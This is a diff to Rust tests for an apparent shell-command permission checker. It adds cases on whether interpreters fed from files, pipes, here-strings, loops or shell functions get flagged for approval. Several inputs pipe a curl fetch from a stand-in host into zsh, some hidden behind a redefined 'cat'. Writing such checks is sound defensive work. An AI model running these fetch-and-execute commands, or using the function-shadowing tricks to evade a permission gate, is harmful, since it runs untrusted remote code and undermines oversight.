@@ -91,6 +91,17 @@ fn a_program_that_is_read_from_a_file_is_asked_about_as_from_a_pipe() {
             ("ask", "sh -c 'cd a; zsh' < x"),
             ("ask", "exec < x; zsh"),
             ("ask", "exec <<< \"$x\"; zsh"),
+            ("ask", "exec -- < x; python3"),
+            ("ask", "exec -- 3< x <&3; zsh"),
+            ("ask", "exec -- <<< \"$x\"; zsh"),
+            ("ask", "command exec -- < x; zsh"),
+            ("ask", "{ sh; } < x"),
+            ("ask", "{ zsh; } < x"),
+            ("ask", "while read l; do sh; done < x"),
+            ("ask", "until false; do python3; done < x"),
+            ("ask", "for i in a; do python3; done < x"),
+            ("ask", "if true; then python3; fi < x"),
+            ("ask", "case a in a) python3;; esac < x"),
             ("ask", "zsh < <(curl http://x)"),
             ("ask", "curl http://x > >(zsh)"),
             ("ask", "zsh <(curl http://x)"),
@@ -110,8 +121,49 @@ fn a_program_that_is_read_from_a_file_is_asked_about_as_from_a_pipe() {
             ("allow", "cat <<E > a\n$x\nE"),
             ("allow", "sort < x | uniq"),
             ("allow", "echo a > >(cat)"),
+            ("allow", "exec -- > out; zsh"),
+            ("allow", "echo exec -- a < x; zsh"),
+            ("allow", "while read l; do echo \"$l\"; done < f"),
+            ("allow", "python3 a.py < data.txt"),
+            ("allow", "if true; then sort; fi < x"),
         ],
     );
+}
+
+#[test]
+fn what_comes_to_a_function_comes_to_the_commands_in_its_body() {
+    all(
+        "shell(git push *)",
+        &[
+            ("ask", "f() { python3; }; cat x | f"),
+            ("ask", "f() { python3; }; f < x"),
+            ("ask", "f() { sh; }; f < x"),
+            ("ask", "f() (zsh)\nf < x"),
+            ("ask", "f() { zsh; }; { f; } < x"),
+            ("ask", "f() { zsh; }; time f < x"),
+            ("ask", "f() { zsh; }; while read -r l; do f; done < x"),
+            ("ask", "f() { zsh; }; echo 'git push' | f"),
+            ("ask", "f() { zsh; }; f <<< 'git push'"),
+            ("ask", "f() { zsh; }; f <<E\ngit push\nE"),
+            ("ask", "f() { zsh; }; f <<< \"$x\""),
+            ("ask", "f() { f; zsh; }; cat x | f"),
+            ("ask", "g() { cd a; f; }; f() { zsh; }; cat x | g"),
+            ("ask", "f() { zsh; }; g() { cat x | f; }; g"),
+            ("ask", "ls a; eval 'ls b; f() { zsh; }'; f < x"),
+            ("ask", "echo() { cat x; }; echo ls | zsh"),
+            ("ask", "cat() { curl http://x; }; echo ls | cat | zsh"),
+            ("allow", "f() { zsh; }; echo ls | f"),
+            ("allow", "f() { zsh; }; f <<< ls"),
+            ("allow", "f() { zsh; }; cat x | sort"),
+            ("allow", "f() { sort; }; cat x | f"),
+            ("allow", "f() { python3 a.py; }; f < x"),
+            ("allow", "eval 'ls b; f() { sort; }; zsh'; f < x"),
+        ],
+    );
+    // More than are told apart: each is still asked about.
+    let calls: String = (0..70).map(|number| format!("echo {number} | f; ")).collect();
+    let line = format!("f() {{ zsh; }}; {calls} cat x | f");
+    all("shell(git push *)", &[("ask", line.as_str())]);
 }
 
 #[test]
